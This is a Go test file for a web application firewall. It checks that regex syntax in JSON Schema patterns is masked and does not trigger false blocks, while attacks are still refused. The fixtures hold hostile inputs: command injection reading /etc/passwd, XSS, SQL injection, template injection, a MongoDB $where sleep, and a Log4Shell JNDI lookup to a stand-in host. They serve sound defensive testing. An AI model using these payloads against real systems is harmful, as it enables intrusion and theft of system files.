package waf

import (
	"net/http/httptest"
	"strings"
	"testing"
)

// TestMaskRegex: a schema's regular expression without its syntax, and
// what is not one.
func TestMaskRegex(t *testing.T) {
	for _, c := range []struct {
		v, want string
		ok      bool
	}{
		{"^snap-[0-9a-zA-Z]{1,63}$", "snap-x", true},
		{`^[^\u0000-\u001F\u007F]+$`, "x+", true},
		{`^(?:[a-z]+)\.example\.com$`, "(x+).example.com", true},
		{`^(?!aws:)[a-zA-Z0-9 _.:/=+\-@]{1,128}$`, "(aws:)x", true},
		{`^https://([.\-_a-zA-Z0-9]+/?){3,1016}$`, "https://(x+/?)", true},
		{"(arn:(aws[a-zA-Z-]*)?:iam::(\\d{12}|aws))", "(arn:(awsx*)?:iam::(x aws))", true},
		{"${jndi:ldap://x.example/a}", "${jndi:ldap://x.example/a}", true},
		{"/bin/{cat,ls}", "/bin/{cat,ls}", true},
		{"^(abc]", "", false},
		{"(?P<x", "", false},
	} {
		got, ok := maskRegex(c.v)
		if ok != c.ok || ok && got != c.want {
			t.Errorf("maskRegex(%q) = %q, %v; want %q, %v", c.v, got, ok, c.want, c.ok)
		}
	}
}

// TestSchemaRegexes: a JSON Schema's "pattern" values and
// "patternProperties" names are regular expressions, and the CRS rules
// and detectors that read their syntax as bash brace expansion, globs,
// escapes or pipes judge them without it; "$comment" as a member name is
// JSON Schema's, not MongoDB's. An attack put in a pattern is still
// refused, and so is a regular expression's syntax in any other member.
func TestSchemaRegexes(t *testing.T) {
	s := sharedStage(t)
	tool := func(schema string) string {
		return `{"model":"m","tools":[{"type":"function","function":{"name":"lookup","parameters":` + schema + `}}]}`
	}
	for _, c := range []struct {
		doc   string
		block bool
	}{
		{`{"type":"object","properties":{"id":{"type":"string","pattern":"^snap-[0-9a-zA-Z]{1,63}$"}}}`, false},
		{`{"properties":{"arn":{"pattern":"^arn:aws[-a-z]{0,7}:bedrock:[a-z0-9-]{9,15}:[0-9]{12}:x$"}}}`, false},
		{`{"properties":{"uri":{"pattern":"^(efs|nfs|s3|smb)://[a-zA-Z0-9.:/\\-]+$"}}}`, false},
		{`{"properties":{"d":{"pattern":"^[^\\u0000-\\u001F\\u007F]+$"}}}`, false},
		{`{"properties":{"p":{"pattern":"arn:(aws[a-zA-Z-]*)?:iam::(\\d{12}|aws):policy/[a-zA-Z_0-9+=,.@\\-_/]+"}}}`, false},
		{`{"properties":{"u":{"pattern":"^https://([.\\-_a-zA-Z0-9]+/?){3,1016}$"}}}`, false},
		{`{"patternProperties":{"^[A-Za-z0-9]{1,64}$":{"$ref":"#/$defs/Output"}}}`, false},
		{`{"patternProperties":{".{1,128}":{"type":"string","pattern":"^.{0,256}$"}}}`, false},
		{`{"$comment":"ids are opaque","type":"string"}`, false},
		{`{"properties":{"q":{"pattern":";cat /etc/passwd"}}}`, true},
		{`{"properties":{"q":{"pattern":"<script>alert(1)</script>"}}}`, true},
		{`{"properties":{"q":{"pattern":"' OR 1=1--"}}}`, true},
		{`{"properties":{"q":{"pattern":"${jndi:ldap://x.example/a}"}}}`, true},
		{`{"properties":{"q":{"pattern":"{{7*7}}"}}}`, true},
		{`{"properties":{"q":{"pattern":"x;{cat,/etc/passwd}"}}}`, true},
		{`{"patternProperties":{";cat /etc/passwd":{"type":"string"}}}`, true},
		{`{"note":"x;{cat,/etc/passwd}"}`, true},
		{`{"where":{"$comment":"x","$where":"sleep(5000)"}}`, true},
	} {
		for _, body := range []string{c.doc, tool(c.doc)} {
			r := httptest.NewRequest("POST", "/api/tools", strings.NewReader(body))
			r.Header.Set("Content-Type", "application/json")
			v, err := s.Inspect(exchange(r))
			if err != nil {
				t.Fatal(err)
			}
			if v.Blocked != c.block {
				t.Errorf("%s: blocked %v (rules %v at %s), want %v", body, v.Blocked, v.Rules, v.Location, c.block)
			}
		}
	}
}

// FuzzMaskRegex: masking never panics, never grows a value by more than
// it masks, and is what maskRegex returns for a value that parses.
func FuzzMaskRegex(f *testing.F) {
	for _, s := range []string{"^snap-[0-9a-zA-Z]{1,63}$", `\u00`, `[\`, `(?`, `\x{12`, `\p`, "{1,", "a{2}b$|^c"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		m := maskRegexSyntax(v)
		if len(m) > len(v) {
			t.Fatalf("maskRegexSyntax(%q) = %q, longer", v, m)
		}
		if got, ok := maskRegex(v); ok && got != m {
			t.Fatalf("maskRegex(%q) = %q, maskRegexSyntax %q", v, got, m)
		}
	})
}

// TestSchemaRegexCollision: two JSON paths can make one Coraza argument
// name ("/a.pattern" and "/a/pattern" are both json.a.pattern); the
// value that is no pattern is judged as text.
func TestSchemaRegexCollision(t *testing.T) {
	s := sharedStage(t)
	for _, doc := range []string{
		`{"a.pattern":"x;{cat,/etc/passwd}","a":{"pattern":"^[a-z]{1,8}$"}}`,
		`{"a":{"pattern":"^[a-z]{1,8}$"},"a.pattern":"x;{cat,/etc/passwd}"}`,
	} {
		r := httptest.NewRequest("POST", "/api/tools", strings.NewReader(doc))
		r.Header.Set("Content-Type", "application/json")
		v, err := s.Inspect(exchange(r))
		if err != nil {
			t.Fatal(err)
		}
		if !v.Blocked {
			t.Errorf("%s: passed, want blocked", doc)
		}
	}
}
